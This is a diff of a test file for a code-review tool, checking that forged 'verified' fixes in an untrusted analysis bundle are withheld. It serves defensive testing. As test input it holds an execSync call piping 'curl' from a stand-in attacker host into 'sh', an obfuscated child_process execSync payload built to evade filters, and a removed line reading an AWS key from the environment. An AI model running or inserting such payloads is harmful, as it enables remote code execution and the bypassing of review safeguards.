@@ -155,7 +155,8 @@ describe('mode publish treats the analysis bundle as untrusted data', () => {
   it('never says verified for the bundle\'s fixes: a harmless one is an unverified suggestion, a curl | sh one is left out', async () => {
     server.addPullRequest({ number: 46, base: { sha: sample.baseSha }, head: { sha: sample.headSha, repo: 'someone/app' } });
     const CURL = "  require('child_process').execSync('curl -s https://evil.example/x | sh');";
-    const ENV = 'export const awsKey = process.env.AWS_KEY;';
+    // Reaches nothing loader.ts does not (a new global such as `process` would be left out too).
+    const ENV = "export const awsKey = await readText('aws-key');";
     const forged = tampered('forged-suggestions', 46, (bundle) => {
       const debuggerLine = bundle.state.findings.find((finding) => finding.file === 'src/loader.ts' && finding.line === 6);
       const keyLine = bundle.state.findings.find((finding) => finding.file === 'src/loader.ts' && finding.line === 14);
@@ -184,6 +185,23 @@ describe('mode publish treats the analysis bundle as untrusted data', () => {
     expect(html).toContain('Unverified suggestion from the analysis job (line 14)');
     expect(html).not.toContain('Verified fix');
     expect(html).not.toMatch(/execSync|curl -s/);
+  });
+
+  it('leaves out a fix whose process execution no list of spellings names: it reaches what the file never did', async () => {
+    server.addPullRequest({ number: 47, base: { sha: sample.baseSha }, head: { sha: sample.headSha, repo: 'someone/app' } });
+    const HIDDEN = "  globalThis[['re', 'quire'].join('')]('child' + '_process')[['exec', 'Sync'].join('')]('id');";
+    const forged = tampered('hidden-exec', 47, (bundle) => {
+      const debuggerLine = bundle.state.findings.find((finding) => finding.file === 'src/loader.ts' && finding.line === 6);
+      if (!debuggerLine) throw new Error('the sample change has no debugger finding');
+      debuggerLine.suggestion = { start_line: 6, end_line: 6, replacement: HIDDEN, verified: true };
+    });
+    const run = await publish(forged);
+    const comments = server.reviews.filter((review) => review.pull === 47).flatMap((review) => review.comments);
+    const bodies = [...comments.map((comment) => comment.body), ...renderedBodies(47, run.summary)].join('\n');
+    expect(bodies).not.toMatch(/quire|Sync/);
+    expect(comments.find((comment) => comment.path === 'src/loader.ts' && comment.line === 6)?.body).toContain('Suggested fix:\n\n```suggestion\n```');
+    expect(run.report?.warnings).toContainEqual(expect.stringMatching(/src\/loader\.ts:6\): the analysis job's suggested fix was left out: the fix reaches what the file did not: name `globalThis`/));
+    expect(JSON.stringify(run.report?.findings)).not.toContain('quire');
   });
 
   it.each([
